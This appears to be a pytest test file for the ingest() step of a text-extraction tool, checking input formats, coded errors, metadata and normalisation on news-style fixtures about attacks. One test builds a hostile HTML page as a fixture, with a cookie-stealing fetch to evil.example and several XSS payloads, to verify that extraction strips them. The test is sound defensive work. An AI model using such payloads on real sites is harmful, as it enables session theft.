"""ingest(): the seed in three forms, bad inputs with coded errors, metadata, speed."""

from __future__ import annotations

import hashlib
import json
import time
import unicodedata
import zipfile
import zlib
from pathlib import Path

import pytest

from harmwatch.errors import InputError
from harmwatch.ingest import ingest, iter_inputs
from harmwatch.types import Document, InputItem


def _png_bytes() -> bytes:
    """A real 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    ihdr = (1).to_bytes(4, "big") * 2 + bytes([8, 6, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00\xff")) + chunk(b"IEND", b"")


def _ingest_all(items: list[InputItem]) -> list[Document | InputError]:
    out: list[Document | InputError] = []
    for it in items:
        try:
            out.append(ingest(it))
        except InputError as exc:
            out.append(exc)
    return out


# --------------------------------------------------------------------------- the seed, three forms


def test_seed_as_text_file(shared: Path, seed_last: str, seed_paragraphs: list[str]) -> None:
    (item,) = iter_inputs(shared / "seed" / "000_ea6982988430f7db.txt")
    doc = ingest(item)
    assert doc.id == "000_ea6982988430f7db.txt"  # a file given by itself: its name
    assert doc.text.endswith(seed_last)
    assert doc.text == "\n".join(seed_paragraphs)
    assert doc.language == "en"
    assert doc.published is None  # the text has no year and the file no metadata: unknown, not guessed
    assert doc.input_format == "text" and doc.origin == item.ref
    assert doc.content_hash == hashlib.sha256(doc.text.encode()).hexdigest()


def test_seed_as_jsonl(tmp_path: Path, seed_text: str, seed_last: str) -> None:
    p = tmp_path / "seed.jsonl"
    rec = {"id": "seed", "text": seed_text, "published": "2017-06-05", "url": "https://www.diyaruna.example/a/1"}
    p.write_text(json.dumps(rec) + "\n", encoding="utf-8")
    (item,) = iter_inputs(p)
    doc = ingest(item)
    assert doc.text.endswith(seed_last) and "Very good" not in doc.text
    assert (doc.id, doc.published, doc.source, doc.input_format) == ("seed", "2017-06-05", "diyaruna.example", "jsonl")


def test_seed_as_html_page(data_dir: Path, seed_last: str, seed_paragraphs: list[str]) -> None:
    (item,) = iter_inputs(data_dir / "seed_page.html")
    doc = ingest(item)
    for para in seed_paragraphs:
        assert para in doc.text, para
    assert doc.text.endswith(seed_last)
    for junk in ("Very good", "Comment(s)", "Reply", "Leave a comment", "Related Articles", "Most Read",
                 "Privacy policy", "Copyright", "Follow us", "Share this", "Subscribe", "Politics", "gtag",
                 "dataLayer", "Families flee western Mosul. [File photo]"):  # fmt: skip
        assert junk not in doc.text, junk
    # paragraphs stay separate lines
    assert "\nA sign of desperation\n" in doc.text
    assert doc.title == "ISIS slaughters dozens of civilians fleeing western Mosul"
    assert doc.published == "2017-06-05T09:41:00+03:00"
    assert doc.source == "Diyaruna"
    assert doc.language == "en" and doc.input_format == "html" and doc.id == "seed_page.html"


def test_item_metadata_wins_over_page(seed_page_html: bytes) -> None:
    item = InputItem(ref="x", id="s", html=seed_page_html, published="2017-06-04", source="Agency", title="T")
    doc = ingest(item)
    assert (doc.published, doc.source, doc.title) == ("2017-06-04", "Agency", "T")


# --------------------------------------------------------------------------- bad inputs in one batch


def test_bad_inputs_get_coded_errors_and_batch_goes_on(tmp_path: Path, seed_text: str) -> None:
    d = tmp_path / "batch"
    d.mkdir()
    (d / "01_good.txt").write_text(seed_text, encoding="utf-8")
    (d / "02_empty.txt").write_bytes(b"")
    (d / "03_image.html").write_bytes(_png_bytes())  # a PNG renamed .html
    zbuf = tmp_path / "z.zip"
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("report.txt", seed_text)
    (d / "04_archive.htm").write_bytes(zbuf.read_bytes())
    (d / "05_garbage.txt").write_bytes(bytes([0x81, 0x8D, 0xC3, 0x28, 0xA0, 0xFF, 0x9D, 0x90, 0xFE]) * 60)
    (d / "06_spaces.txt").write_text(" \n\t\n   \n")
    big = d / "07_big.html"
    with big.open("wb") as fh:
        fh.write(b"<html><body><article>")
        para = b"<p>" + b"Gunmen attacked the village. " * 30 + b"</p>\n"
        while fh.tell() < 20_000_000:
            fh.write(para)
        fh.write(b"</article></body></html>")
    (d / "08_latin1.html").write_bytes(
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><title>Attaque à Kidal</title></head>'
        "<body><article><p>Des hommes armés ont tué quatre soldats à Kidal, a annoncé l'armée malienne. "
        "Les assaillants ont pris la fuite à moto vers le nord, selon des témoins.</p>"
        "<p>L'attaque n'a pas été revendiquée. Deux civils ont été blessés lors des échanges de tirs.</p>"
        "</article></body></html>".encode("cp1252")
    )
    (d / "09_good.jsonl").write_bytes(
        b'{"id": "j1", "text": "Two people were killed."}\n{"id": "j2", "text": "   "}\n'
        b'{"id": "j3", "text": "bad \xff\xfe"}\n{"id": "j4", "html": "<html><body><nav>Home | News</nav></body></html>"}\n'
    )
    items = list(iter_inputs(d))
    t0 = time.perf_counter()
    results = _ingest_all(items)
    elapsed = time.perf_counter() - t0

    codes = [r.code if isinstance(r, InputError) else "ok" for r in results]
    assert codes == [
        "ok",
        "HW-INPUT-EMPTY",
        "HW-INPUT-BINARY",
        "HW-INPUT-BINARY",
        "HW-INPUT-ENCODING",
        "HW-INPUT-EMPTY",
        "HW-INPUT-TOO-LARGE",
        "ok",
        "ok",
        "HW-INPUT-EMPTY",
        "HW-INPUT-ENCODING",
        "HW-INPUT-NO-TEXT",
    ]
    for r in results:
        if isinstance(r, InputError):
            line = r.one_line()
            assert "\n" not in line and r.hint and len(line) < 400
    latin = results[7]
    assert isinstance(latin, Document)
    assert "Des hommes armés ont tué quatre soldats à Kidal" in latin.text
    assert latin.title == "Attaque à Kidal" and latin.language == "fr"


def test_too_large_rejected_without_parsing() -> None:
    page = b"<html><body>" + b"<p>Gunmen attacked the village.</p>" * 600_000 + b"</body></html>"
    assert len(page) > 20_000_000
    t0 = time.perf_counter()
    with pytest.raises(InputError) as exc:
        ingest(InputItem(ref="big", html=page))
    assert exc.value.code == "HW-INPUT-TOO-LARGE"
    with pytest.raises(InputError) as exc2:
        ingest(InputItem(ref="big", text="x" * 1_000), max_bytes=500)
    assert exc2.value.code == "HW-INPUT-TOO-LARGE"


@pytest.mark.parametrize(
    ("item", "code"),
    [
        (InputItem(ref="a", id="a", text=""), "HW-INPUT-EMPTY"),
        (InputItem(ref="a", id="a", text=" \u00a0\n\t\u200b "), "HW-INPUT-EMPTY"),
        (InputItem(ref="a", id="a"), "HW-INPUT-EMPTY"),
        (InputItem(ref="a", id="a", text="\x00\x01\x02\x03" * 50), "HW-INPUT-BINARY"),
        (InputItem(ref="a", id="a", html="<html><script>var x = 1;</script></html>"), "HW-INPUT-NO-TEXT"),
        (InputItem(ref="a", error="[HW-INPUT-MALFORMED] a:3: invalid JSON"), "HW-INPUT-MALFORMED"),
    ],
)
def test_single_bad_items(item: InputItem, code: str) -> None:
    with pytest.raises(InputError) as exc:
        ingest(item)
    assert exc.value.code == code


# --------------------------------------------------------------------------- clean text and metadata


def test_text_is_nfc_without_controls() -> None:
    raw = "Gunmen\x07 killed five people in Cafe\u0301 Sahel\r\n\r\n\r\n\r\nPolice said\u200b the attack\x1b began at noon."
    doc = ingest(InputItem(ref="r", text=raw))
    assert doc.text == "Gunmen killed five people in Café Sahel\n\nPolice said the attack began at noon."
    assert unicodedata.is_normalized("NFC", doc.text)
    assert doc.id == "doc-" + hashlib.sha256(doc.text.encode()).hexdigest()[:16]


def test_id_from_url_and_bad_date(seed_text: str) -> None:
    url = "https://example.org/news/1"
    doc = ingest(InputItem(ref="r", text=seed_text, url=url, published="last Saturday", language="en-GB"))
    assert doc.id == "doc-" + hashlib.sha256(url.encode()).hexdigest()[:16]
    assert doc.published is None and doc.language == "en" and doc.source == "example.org"


def test_text_field_holding_a_whole_page_is_treated_as_html(seed_page_html: bytes, seed_last: str) -> None:
    doc = ingest(InputItem(ref="r", id="p", text=seed_page_html.decode("utf-8")))
    assert doc.text.endswith(seed_last) and "<p>" not in doc.text and doc.source == "Diyaruna"


def test_hostile_html_has_no_script_in_text() -> None:
    page = """<html><head><title>Market attack</title>
    <script>var stolen = document.cookie; fetch("https://evil.example/?c=" + stolen);</script>
    <style>body { color: red }</style></head>
    <body onload="alert('xss')">
    <article>
      <p onclick="alert(1)">Gunmen opened fire on a market in the northern town on Friday, killing at least
      seven people and wounding twelve others, local officials said.</p>
      <img src=x onerror="alert(document.domain)">
      <script>document.write('<p>injected paragraph</p>')</script>
      <p>The attackers fled on motorcycles before security forces arrived, according to witnesses who
      spoke to reporters at the scene.</p>
      <a href="javascript:alert(2)">more</a>
      <svg onload=alert(3)><script>alert(4)</script></svg>
      <noscript><p>Enable JavaScript</p></noscript>
      <iframe src="javascript:alert(5)"></iframe>
    </article></body></html>"""
    doc = ingest(InputItem(ref="h", html=page))
    assert "killing at least seven people" in doc.text and "fled on motorcycles" in doc.text
    for bad in ("alert", "cookie", "fetch", "document", "onerror", "javascript", "injected", "color: red", "<"):
        assert bad not in doc.text, bad


def test_html_fallback_when_trafilatura_finds_nothing() -> None:
    from harmwatch.ingest.html import _lxml_text, parse_html

    page = (
        "<html><body><nav><a href='/'>Home</a></nav><div class='sidebar'>Most read</div>"
        "<main><p>Two soldiers were killed.</p><p>Officials confirmed it.</p></main>"
        "<footer>Copyright</footer></body></html>"
    )
    assert _lxml_text(parse_html(page)) == "Two soldiers were killed.\nOfficials confirmed it."


# --------------------------------------------------------------------------- speed




def test_publication_date_precedence_and_invalid_values(seed_text: str, seed_page_html: bytes) -> None:
    from harmwatch.ingest import check_published, published_warning

    # the item's own date, else the page's metadata, else the default (--published)
    own = InputItem(ref="r", id="a", text=seed_text, published="2017-06-04")
    assert ingest(own, default_published="2017-06-05").published == "2017-06-04"
    page = InputItem(ref="p", id="p", html=seed_page_html)
    assert ingest(page, default_published="2017-06-05").published == "2017-06-05T09:41:00+03:00"
    plain = InputItem(ref="t", id="t", raw=seed_text.encode("utf-8"))
    assert ingest(plain, default_published="2017-06-05").published == "2017-06-05"
    assert ingest(plain).published is None
    # an invalid value is ignored with a coded warning, never silently
    bad = InputItem(ref="b", id="b", text=seed_text, published="the day before yesterday")
    assert ingest(bad, default_published="2017-06-05").published == "2017-06-05"
    assert published_warning(bad).startswith("[HW-INPUT-PUBLISHED-INVALID] published 'the day before yesterday'")
    assert published_warning(own) is None and published_warning(plain) is None
    assert check_published("June 5, 2017") == "2017-06-05" and check_published(None) is None
    with pytest.raises(InputError) as info:
        check_published("05/06/2017")  # ambiguous: refused, not guessed
    assert info.value.code == "HW-INPUT-PUBLISHED-INVALID"


def test_library_run_refuses_a_missing_path_before_opening_the_database(tmp_path: Path) -> None:
    import harmwatch

    db = tmp_path / "hw.sqlite"
    with pytest.raises(InputError) as info:
        harmwatch.run([tmp_path / "nope"], db=f"sqlite:///{db}")
    assert info.value.code == "HW-INPUT-NOT-FOUND" and not db.exists()
    with pytest.raises(InputError):
        list(harmwatch.extract_files([tmp_path / "nope"]))
